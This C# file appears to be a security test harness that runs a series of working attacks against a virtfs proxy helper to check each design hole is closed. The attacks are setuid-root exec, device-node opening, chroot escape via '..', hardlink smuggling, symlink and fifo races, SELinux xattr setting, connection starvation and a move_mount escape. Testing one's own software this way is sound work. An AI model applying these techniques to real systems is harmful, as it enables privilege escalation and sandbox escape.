// virtfs-attack: one subcommand per hole in virtfs-proxy-helper's design, run as the unprivileged user that holds
// the helper's socket (what a guest that took over vhost-user-9p can do). tools/e2e/attacks.sh sets up the export
// and the users and runs them.
//
// Each subcommand prints ONE line and exits
//   0 = attack HELD (the helper refused, or the outcome did not happen),
//   1 = attack SUCCEEDED (the hole is open),
//   2 = could not run (setup error; the line says why).
// Judged by outcome only (did euid 0 run, did the device open, did the victim change owner...): any clean refusal,
// whatever the errno, is HELD.
using System.Diagnostics;
using System.Runtime.InteropServices;
using System.Text;
using Microsoft.Win32.SafeHandles;
using Tmds.Linux;
using VirtFs.ProxyFs;
using static Tmds.Linux.LibC;

namespace VirtFs.Attack;

internal static unsafe partial class Program
{
    private const int Held = 0, Hole = 1, Setup = 2;

    private static int Main(string[] args)
    {
        if (args.Length < 2)
        {
            Console.WriteLine("usage: virtfs-attack NAME SOCKET [ARGS...]  (names: setuid-fexecve device-via-dirfd " +
                "dotdot-dirfd MARKER, hardlink-smuggle OUTSIDE-DIR, socket-race SOCKET VICTIM SECONDS STOPFILE, " +
                "fifo-open-race [SECONDS], xattr-security, stalled-connections, foreign-peer)");
            return Setup;
        }
        string sock = args[1];
        try
        {
            var (rc, line) = args[0] switch
            {
                "setuid-fexecve" => SetuidFexecve(sock),
                "device-via-dirfd" => DeviceViaDirfd(sock),
                "setuid-hostpath" => SetuidHostPath(sock, Arg(args, 2, "EXPORT-HOST-PATH")),
                "device-hostpath" => DeviceHostPath(sock, Arg(args, 2, "EXPORT-HOST-PATH")),
                "dotdot-dirfd" => DotdotDirfd(sock, Arg(args, 2, "MARKER")),
                "hardlink-smuggle" => HardlinkSmuggle(sock, Arg(args, 2, "OUTSIDE-DIR")),
                "socket-race" => SocketRace(sock, Arg(args, 2, "VICTIM"), double.Parse(Arg(args, 3, "SECONDS")), Arg(args, 4, "STOPFILE")),
                "fifo-open-race" => FifoOpenRace(sock, args.Length > 2 ? double.Parse(args[2]) : 10),
                "xattr-security" => XattrSecurity(sock),
                "stalled-connections" => StalledConnections(sock),
                "foreign-peer" => ForeignPeer(sock),
                "move-mount" => MoveMount(sock, Arg(args, 2, "MOUNTPOINT"), Arg(args, 3, "OUTSIDE-FILE"), uint.Parse(Arg(args, 4, "REAL-UID"))),
                _ => (Setup, $"unknown attack {args[0]}"),
            };
            string prefix = rc == Hole ? "HOLE: " : rc == Setup ? "setup: " : args[0] == "socket-race" ? "race: " : "held: ";
            Console.WriteLine(prefix + line);
            return rc;
        }
        catch (Exception e)
        {
            Console.WriteLine($"setup: {e.GetType().Name}: {e.Message}");
            return Setup;
        }
    }

    private static string Arg(string[] a, int i, string name) =>
        i < a.Length ? a[i] : throw new ArgumentException($"missing argument {name}");

    private static byte[] Z(string s) => Encoding.UTF8.GetBytes(s + "\0");
    private static byte[] B(string s) => Encoding.UTF8.GetBytes(s);
    private static string Err(int r) => $"errno {-r} ({Marshal.GetPInvokeErrorMessage(-r)})";
    private static uint MyUid => getuid();
    private static uint MyGid => getgid();

    private static stat Stat(string path)
    {
        stat st;
        fixed (byte* p = Z(path))
            if (LibC.stat(p, &st) < 0) throw new IOException($"stat {path}: errno {errno}");
        return st;
    }

    // 1. A root-owned setuid copy of id(1), created, chmodded and opened through the helper, then exec'd from the fd.
    private static (int, string) SetuidFexecve(string sock)
    {
        using var c = ProxyClient.Connect(sock);
        string? refused = MakeSetuidRootId(c, "a1-id"u8);
        if (refused is not null) return (Held, refused);
        int r = c.Open("a1-id"u8, O_RDONLY, out SafeFileHandle? fd);
        if (r < 0) return (Held, "T_OPEN refused: " + Err(r));
        using (fd)
        {
            int n = (int)fd!.DangerousGetHandle();
            fcntl(n, F_SETFD, 0); // inherit it into the child; the child execs /proc/self/fd/N (= fexecve)
            return RunExpectingRoot($"/proc/self/fd/{n}", "the handed-out fd");
        }
    }

    // 1b. The same setuid-root file, run from the export's host path (an export the attacker can reach).
    private static (int, string) SetuidHostPath(string sock, string export)
    {
        using var c = ProxyClient.Connect(sock);
        string? refused = MakeSetuidRootId(c, "a1b-id"u8);
        if (refused is not null) return (Held, refused);
        return RunExpectingRoot(Path.Combine(export, "a1b-id"), "the host path");
    }

    /// <summary>Through the helper: a 0:0 copy of id(1), chmod 04755. Null on success, else what was refused.</summary>
    private static string? MakeSetuidRootId(ProxyClient c, ReadOnlySpan<byte> name)
    {
        byte[] elf = File.ReadAllBytes("/usr/bin/id");
        int r = c.Create(name, O_RDWR | O_CREAT, 0755, 0, 0, out SafeFileHandle? w);
        if (r < 0) return "T_CREATE as 0:0 refused: " + Err(r);
        using (w) RandomAccess.Write(w!, elf, 0);
        r = c.Chmod(name, 0x800 | 0x1ED /* 04755 */);
        return r < 0 ? "T_CHMOD 04755 refused: " + Err(r) : null;
    }

    /// <summary>Runs the id(1) copy at <paramref name="program"/>: a hole if it ran as root.</summary>
    private static (int, string) RunExpectingRoot(string program, string from)
    {
        var psi = new ProcessStartInfo(program) { UseShellExecute = false, RedirectStandardOutput = true, RedirectStandardError = true };
        string output;
        try
        {
            using var p = Process.Start(psi)!;
            output = (p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd()).Trim();
            p.WaitForExit();
        }
        catch (Exception e) { return (Held, $"exec from {from} failed: {e.Message}"); }
        return output.Contains("euid=0(") || output.StartsWith("uid=0(")
            ? (Hole, $"setuid root binary ran from {from}: {output}")
            : (Held, $"exec ran without root: {output}");
    }

    // 2b. A 0666 device node made through the helper, opened by its host path.
    private static (int, string) DeviceHostPath(string sock, string export)
    {
        using var c = ProxyClient.Connect(sock);
        ulong rdev = (1u << 8) | 3; // makedev(1, 3) = /dev/null
        int r = c.Mknod("a2b-null"u8, 0x2000 | 0x1B6 /* S_IFCHR 0666 */, rdev, 0, 0);
        if (r < 0) return (Held, "T_MKNOD of a char device as 0:0 refused: " + Err(r));
        fixed (byte* p = Z(Path.Combine(export, "a2b-null")))
        {
            int fd = open(p, O_RDONLY | O_CLOEXEC, 0);
            if (fd < 0) return (Held, $"open(host path of the device) refused: errno {errno}");
            close(fd);
            return (Hole, "opened a char device made through the helper by its host path");
        }
    }

    // 2. A 0:0 device node made through the helper, opened by us relative to a directory fd it handed out.
    private static (int, string) DeviceViaDirfd(string sock)
    {
        using var c = ProxyClient.Connect(sock);
        const uint S_IFCHR = 0x2000;
        ulong rdev = (1u << 8) | 3; // makedev(1, 3) = /dev/null
        int r = c.Mknod("a2-null"u8, S_IFCHR | 0x1B6 /* 0666 */, rdev, 0, 0);
        if (r < 0) return (Held, "T_MKNOD of a char device as 0:0 refused: " + Err(r));
        r = c.Open("/"u8, O_DIRECTORY | O_RDONLY, out SafeFileHandle? dir);
        if (r < 0) return (Held, "T_OPEN / refused: " + Err(r));
        using (dir)
        fixed (byte* p = Z("a2-null"))
        {
            int fd = openat((int)dir!.DangerousGetHandle(), p, O_RDONLY | O_CLOEXEC, 0);
            if (fd < 0) return (Held, $"openat(dirfd, device) refused: errno {errno}");
            stat st;
            fstat(fd, &st);
            close(fd);
            return (Hole, $"opened char device {((ulong)st.st_rdev >> 8) & 0xfff}:{(ulong)st.st_rdev & 0xff} through the handed-out dirfd");
        }
    }

    // 3. ".." from the export root's fd: the helper is chrooted, we are not.
    private static (int, string) DotdotDirfd(string sock, string marker)
    {
        using var c = ProxyClient.Connect(sock);
        int r = c.Open("/"u8, O_DIRECTORY | O_RDONLY, out SafeFileHandle? dir);
        if (r < 0) return (Held, "T_OPEN / refused: " + Err(r));
        using (dir)
        fixed (byte* p = Z(".."))
        {
            int up = openat((int)dir!.DangerousGetHandle(), p, O_DIRECTORY | O_RDONLY | O_CLOEXEC, 0);
            if (up < 0) return (Held, $"openat(root fd, \"..\") refused: errno {errno}");
            try
            {
                // list it through the fd
                var names = Directory.EnumerateFileSystemEntries($"/proc/self/fd/{up}").Select(Path.GetFileName).ToList();
                return names.Contains(marker)
                    ? (Hole, $"\"..\" of the export root lists the outside marker {marker} ({names.Count} entries)")
                    : (Held, $"\"..\" stays inside the export ({names.Count} entries, no {marker})");
            }
            finally { close(up); }
        }
    }

    // 4. Our own file from outside the export hard-linked into it through a dirfd, then made root setuid by the helper.
    private static (int, string) HardlinkSmuggle(string sock, string outsideDir)
    {
        string outside = Path.Combine(outsideDir, "a4-own");
        File.Delete(outside);
        File.WriteAllBytes(outside, File.ReadAllBytes("/usr/bin/id"));
        using var c = ProxyClient.Connect(sock);
        int r = c.Mkdir("a4-dir"u8, 0x1ED, MyUid, MyGid);
        if (r < 0) return (Setup, "T_MKDIR a4-dir as ourselves failed: " + Err(r));
        r = c.Open("a4-dir"u8, O_DIRECTORY | O_RDONLY, out SafeFileHandle? dir);
        if (r < 0) return (Held, "T_OPEN a4-dir refused: " + Err(r));
        using (dir)
        fixed (byte* o = Z(outside)) fixed (byte* x = Z("x"))
        {
            if (linkat(AT_FDCWD, o, (int)dir!.DangerousGetHandle(), x, 0) < 0)
                return (Held, $"linkat(outside file -> dirfd) failed: errno {errno}");
        }
        int rc = c.Chown("a4-dir/x"u8, 0, 0);
        int rm = c.Chmod("a4-dir/x"u8, 0x800 | 0x1ED);
        stat st = Stat(outside);
        uint mode = (uint)st.st_mode;
        string what = $"outside file now uid={(uint)st.st_uid} mode={Convert.ToString(mode & 0xFFF, 8)} (chown {rc}, chmod {rm})";
        return (uint)st.st_uid == 0 && (mode & 0x800) != 0 ? (Hole, "linked in and made root setuid: " + what) : (Held, what);
    }

    [LibraryImport("libc", SetLastError = true)]
    private static partial int rename(byte* oldpath, byte* newpath);

    [LibraryImport("libc", SetLastError = true)]
    private static partial int inotify_init1(int flags);

    [LibraryImport("libc", SetLastError = true)]
    private static partial int inotify_add_watch(int fd, byte* path, uint mask);

    [LibraryImport("libc", SetLastError = true)]
    private static partial int renameat2(int olddirfd, byte* oldpath, int newdirfd, byte* newpath, uint flags);

    // 5. The racing half only (attacks.sh starts and kills the helper and judges by the victim's owner): when the
    // helper creates the socket in our directory (bind) and is about to chown() it BY PATH, rename a ready-made
    // symlink to the victim over it, so the chown follows it to the victim. Waiter threads block on inotify: bind's
    // IN_CREATE wakes them from inside the helper's syscall, and the wake-up tends to preempt the helper right there
    // (wins ~half the starts on this 2-core machine). Optional spinning threads poll lstat instead (rarely win).
    // VIRTFS_ATTACK_WAITERS (default 2) / VIRTFS_ATTACK_RACERS (default 0) set how many of each. Runs until STOPFILE
    // exists or SECONDS pass; prints how many swaps it made.
    private static (int, string) SocketRace(string sockPath, string victim, double seconds, string stopFile)
    {
        string dir = Path.GetDirectoryName(sockPath)!;
        var sw = Stopwatch.StartNew();
        long swaps = 0;
        int setupErrno = 0;
        bool stop = false;
        uint victimUid0 = (uint)Stat(victim).st_uid;
        var racers = new List<Thread>();
        int threads = int.TryParse(Environment.GetEnvironmentVariable("VIRTFS_ATTACK_RACERS"), out int n) && n >= 0 ? n : 0;
        for (int i = 0; i < threads; i++)
        {
            string tmp = Path.Combine(dir, $".a5-link-{i}");
            var t = new Thread(() =>
            {
                fixed (byte* s = Z(sockPath)) fixed (byte* t = Z(tmp)) fixed (byte* v = Z(victim))
                {
                    unlink(t);
                    if (symlink(v, t) < 0) { setupErrno = errno; return; }
                    while (!Volatile.Read(ref stop))
                    {
                        stat st;
                        if (lstat(s, &st) < 0 || ((uint)st.st_mode & 0xF000) != 0xC000) continue;
                        if (rename(t, s) == 0)
                        {
                            Interlocked.Increment(ref swaps);
                            symlink(v, t); // ready for the next start
                        }
                    }
                }
            }) { IsBackground = true };
            t.Start();
            racers.Add(t);
        }
        // the inotify waiters
        int waiters = int.TryParse(Environment.GetEnvironmentVariable("VIRTFS_ATTACK_WAITERS"), out n) && n >= 0 ? n : 2;
        byte[] sockNameBytes = B(Path.GetFileName(sockPath));
        for (int i = 0; i < waiters; i++)
        {
            string tmp = Path.Combine(dir, $".a5-wlink-{i}");
            var t = new Thread(() =>
            {
                int ino = inotify_init1(O_CLOEXEC);
                if (ino < 0) { setupErrno = Marshal.GetLastPInvokeError(); return; }
                byte[] buf = new byte[4096];
                fixed (byte* s = Z(sockPath)) fixed (byte* t = Z(tmp)) fixed (byte* v = Z(victim)) fixed (byte* d = Z(dir)) fixed (byte* b = buf)
                {
                    unlink(t);
                    if (symlink(v, t) < 0 || inotify_add_watch(ino, d, 0x100 /* IN_CREATE */) < 0) { setupErrno = errno; close(ino); return; }
                    while (!Volatile.Read(ref stop))
                    {
                        var pfd = new pollfd { fd = ino, events = POLLIN };
                        if (poll(&pfd, 1, 100) <= 0) continue;
                        long got = read(ino, b, buf.Length);
                        // struct inotify_event { int wd; u32 mask, cookie, len; char name[len]; }: the socket's
                        // creation (our own renames are IN_MOVED_TO, our symlinks have other names): swap at once
                        bool ours = false;
                        for (long off = 0; off + 16 <= got; off += 16 + *(uint*)(b + off + 12))
                        {
                            uint len = *(uint*)(b + off + 12);
                            var name = new ReadOnlySpan<byte>(b + off + 16, (int)len);
                            int nul = name.IndexOf((byte)0);
                            if (nul >= 0) name = name[..nul];
                            if (name.SequenceEqual(sockNameBytes)) ours = true;
                        }
                        if (ours && rename(t, s) == 0)
                        {
                            Interlocked.Increment(ref swaps);
                            symlink(v, t);
                        }
                    }
                }
                close(ino);
            }) { IsBackground = true };
            t.Start();
            racers.Add(t);
        }
        while (sw.Elapsed.TotalSeconds < seconds && !File.Exists(stopFile) && setupErrno == 0) Thread.Sleep(50);
        Volatile.Write(ref stop, true);
        foreach (var t in racers) t.Join(2000);
        if (setupErrno != 0) return (Setup, $"symlink in {dir} failed: errno {setupErrno}");
        return (Held, $"race ran {sw.Elapsed.TotalSeconds:F1}s, {swaps} swaps (victim uid was {victimUid0}); attacks.sh judges");
    }

    // 6. T_OPEN of a path whose last component we keep exchanging between a regular file and a fifo: the helper's
    // stat-then-open lets root open our fifo, which wakes our blocked writer.
    private static (int, string) FifoOpenRace(string sock, double seconds)
    {
        using var c = ProxyClient.Connect(sock);
        int r = c.Mkdir("a6-dir"u8, 0x1ED, MyUid, MyGid);
        if (r < 0) return (Setup, "T_MKDIR a6-dir as ourselves failed: " + Err(r));
        r = c.Open("a6-dir"u8, O_DIRECTORY | O_RDONLY, out SafeFileHandle? dirH);
        if (r < 0) return (Held, "T_OPEN a6-dir refused: " + Err(r));
        using var dirHandle = dirH!;
        int dir = (int)dirHandle.DangerousGetHandle();
        int opath;
        fixed (byte* a = Z("a")) fixed (byte* b = Z("b"))
        {
            int f = openat(dir, a, O_CREAT | O_WRONLY | O_CLOEXEC, 0x1A4);
            if (f < 0) return (Setup, $"creating a6-dir/a through the dirfd failed: errno {errno}");
            close(f);
            if (mkfifoat(dir, b, 0x1B6) < 0) return (Setup, $"mkfifoat through the dirfd failed: errno {errno}");
            opath = openat(dir, b, O_PATH | O_CLOEXEC, 0); // the fifo inode, whatever name it has later
            if (opath < 0) return (Setup, $"O_PATH open of the fifo failed: errno {errno}");
        }
        string fifo = $"/proc/self/fd/{opath}";
        int opened = 0, decided = 0, writerErrno = 0, swapErrno = 0;
        var writer = new Thread(() =>
        {
            fixed (byte* p = Z(fifo))
            {
                int w = open(p, O_WRONLY | O_CLOEXEC, 0); // blocks until someone opens the fifo for reading
                if (w < 0) { writerErrno = errno; return; }
                if (Volatile.Read(ref decided) == 0) Volatile.Write(ref opened, 1);
                close(w);
            }
        }) { IsBackground = true };
        writer.Start();
        bool stop = false;
        long exchanges = 0;
        var swapper = new Thread(() =>
        {
            fixed (byte* a = Z("a")) fixed (byte* b = Z("b"))
                while (!Volatile.Read(ref stop))
                    if (renameat2(dir, a, dir, b, 2 /* RENAME_EXCHANGE */) == 0) exchanges++;
                    else swapErrno = Marshal.GetLastPInvokeError();
        }) { IsBackground = true };
        swapper.Start();
        var sw = Stopwatch.StartNew();
        long tries = 0;
        while (sw.Elapsed.TotalSeconds < seconds && Volatile.Read(ref opened) == 0)
        {
            tries++;
            if (c.Open("a6-dir/a"u8, O_RDONLY, out SafeFileHandle? got) >= 0) got!.Dispose();
            if (c.IsBroken) break;
        }
        Volatile.Write(ref decided, 1);
        bool hole = Volatile.Read(ref opened) == 1;
        Volatile.Write(ref stop, true);
        swapper.Join(2000);
        // release our blocked writer (this open of ours is not counted: decided is set)
        fixed (byte* p = Z(fifo))
        {
            int rd = open(p, O_RDONLY | O_NONBLOCK | O_CLOEXEC, 0);
            writer.Join(2000);
            if (rd >= 0) close(rd);
        }
        close(opath);
        if (writerErrno != 0) return (Setup, $"our blocking open of the fifo failed: errno {writerErrno}");
        if (exchanges == 0) return (Setup, $"renameat2(RENAME_EXCHANGE) never succeeded here (errno {swapErrno}, {tries} T_OPENs, opened {hole})");
        return hole
            ? (Hole, $"root opened our fifo for reading (blocked writer woke) after {tries} T_OPENs, {sw.Elapsed.TotalSeconds:F1}s")
            : (Held, $"{tries} T_OPENs in {sw.Elapsed.TotalSeconds:F1}s, {exchanges} exchanges: the fifo was never opened");
    }

    // 7. security.* xattrs are the LSM's labels (and security.capability file capabilities): a client must not set them.
    private static (int, string) XattrSecurity(string sock)
    {
        using var c = ProxyClient.Connect(sock);
        int r = c.Create("a7-file"u8, O_RDWR | O_CREAT, 0x1A4, MyUid, MyGid, out SafeFileHandle? f);
        if (r < 0) return (Setup, "T_CREATE a7-file failed: " + Err(r));
        f!.Dispose();
        int sel = c.SetXattr("a7-file"u8, "security.selinux"u8, "system_u:object_r:etc_t:s0\0"u8, 0);
        int tr = c.SetXattr("a7-file"u8, "trusted.virtfs-attack"u8, "x"u8, 0);
        string trusted = tr == 0 ? "trusted.* ACCEPTED too" : "trusted.* refused " + Err(tr);
        return sel == 0
            ? (Hole, $"security.selinux set through the helper; {trusted}")
            : (Held, $"security.selinux refused {Err(sel)}; {trusted}");
    }

    private static int RawConnect(string path)
    {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0) throw new IOException($"socket: errno {errno}");
        sockaddr_un addr = default;
        addr.sun_family = AF_UNIX;
        B(path).CopyTo(new Span<byte>((byte*)&addr + sockaddr_un.sun_path_offset, sockaddr_un.sun_path_length - 1));
        if (connect(fd, (sockaddr*)&addr, sizeof(sockaddr_un)) < 0) { int e = errno; close(fd); return -e; }
        return fd;
    }

    /// <summary>T_LSTAT "/" on a fresh connection, answered within <paramref name="timeout"/>? (answered: any reply,
    /// success or an errno; served: the stat itself.)</summary>
    private static (bool answered, bool served, string what) LstatRoot(string sock, TimeSpan timeout)
    {
        string what = "";
        bool answered = false, served = false;
        var t = new Thread(() =>
        {
            try
            {
                using var c = ProxyClient.Connect(sock);
                int r = c.Lstat("/"u8, out ProxyStat st);
                answered = true;
                served = r == 0;
                what = r == 0 ? $"T_LSTAT / answered (mode {Convert.ToString(st.Mode, 8)})" : "T_LSTAT / answered with an error: " + Err(r);
            }
            catch (Exception e) { what = "refused: " + e.Message; }
        }) { IsBackground = true };
        t.Start();
        if (!t.Join(timeout)) return (false, false, $"no answer within {timeout.TotalSeconds:F0}s");
        return (answered, served, what);
    }

    // 8. Connections that stop mid-request must not starve everyone else.
    private static (int, string) StalledConnections(string sock)
    {
        var fds = new List<int>();
        byte[] header = new byte[8];
        BitConverter.TryWriteBytes(header.AsSpan(0, 4), 8); // T_LSTAT
        BitConverter.TryWriteBytes(header.AsSpan(4, 4), 64); // body size 64, of which we send 3 bytes
        try
        {
            for (int i = 0; i < 70; i++)
            {
                int fd = RawConnect(sock);
                if (fd < 0) { if (i == 0) return (Setup, $"connect failed: errno {-fd}"); break; }
                fds.Add(fd);
                // half of them stop inside the header, the others inside the body
                int n = i % 2 == 0 ? 4 : 11;
                byte[] msg = new byte[11];
                header.CopyTo(msg, 0);
                fixed (byte* m = msg) send(fd, m, n, MSG_NOSIGNAL);
            }
            Thread.Sleep(500); // let the helper accept them
            var (answered, _, what) = LstatRoot(sock, TimeSpan.FromSeconds(3));
            return answered
                ? (Held, $"{fds.Count} stalled connections, a fresh one still served: {what}")
                : (Hole, $"{fds.Count} stalled connections, a fresh one was not served: {what}");
        }
        finally { foreach (int fd in fds) close(fd); }
    }


    // 10. Run inside `unshare --user --map-root-user --mount` (the script does that): move the mount of a
    // handed-out root directory fd into our own namespace (move_mount), bind the host's "/" onto a directory in
    // it, and ask the helper for a file outside the export through that directory. Worked against a helper whose
    // root was an open_tree(OPEN_TREE_CLONE) copy: that is an anonymous namespace, and any namespace admin may
    // move its mounts.
    private static (int, string) MoveMount(string sock, string mountpoint, string outsideFile, uint realUid)
    {
        using var c = ProxyClient.Connect(sock);
        int r = c.Mkdir("a10-d"u8, 0x1ED, realUid, realUid);
        if (r < 0 && r != -17) return (Setup, "T_MKDIR a10-d failed: " + Err(r));
        r = c.Open("/"u8, O_DIRECTORY | O_RDONLY, out SafeFileHandle? root);
        if (r < 0) return (Held, "T_OPEN / refused: " + Err(r));
        using (root)
        {
            const int MOVE_MOUNT_F_EMPTY_PATH = 4, SYS_move_mount = 429;
            fixed (byte* empty = Z(""))
            fixed (byte* target = Z(mountpoint))
            {
                long m = (long)(ssize_t)syscall(SYS_move_mount, (int)root!.DangerousGetHandle(), empty, AT_FDCWD, target, MOVE_MOUNT_F_EMPTY_PATH);
                if (m < 0) return (Held, $"move_mount of the handed-out root refused: errno {errno}");
            }
            fixed (byte* hostRoot = Z("/"))
            fixed (byte* inside = Z(Path.Combine(mountpoint, "a10-d")))
            {
                const ulong MS_BIND = 0x1000, MS_REC = 0x4000;
                if (mount(hostRoot, inside, null, MS_BIND | MS_REC, null) < 0)
                    return (Held, $"moved, but bind of / inside failed: errno {Marshal.GetLastPInvokeError()}");
            }
        }
        r = c.Open(Encoding.UTF8.GetBytes("a10-d" + outsideFile), O_RDONLY, out SafeFileHandle? leaked);
        if (r < 0) return (Held, $"moved the helper's mount, but the outside file stayed out of reach: {Err(r)}");
        leaked!.Dispose();
        return (Hole, $"the helper opened {outsideFile} (outside the export) through a mount moved into our namespace");
    }

    [LibraryImport("libc", SetLastError = true)]
    private static partial int mount(byte* source, byte* target, byte* fstype, ulong flags, void* data);

    // 9. Run with a uid that is neither root nor the configured one, but in the socket's group.
    private static (int, string) ForeignPeer(string sock)
    {
        int fd = RawConnect(sock);
        if (fd < 0) return (Held, $"uid {MyUid} cannot connect: errno {-fd}");
        close(fd);
        // an errno reply (EPERM...) or a closed connection is a refusal; only the stat itself is a hole
        var (_, served, what) = LstatRoot(sock, TimeSpan.FromSeconds(3));
        return served ? (Hole, $"uid {MyUid} gid {MyGid} served: {what}") : (Held, $"uid {MyUid} not served: {what}");
    }
}
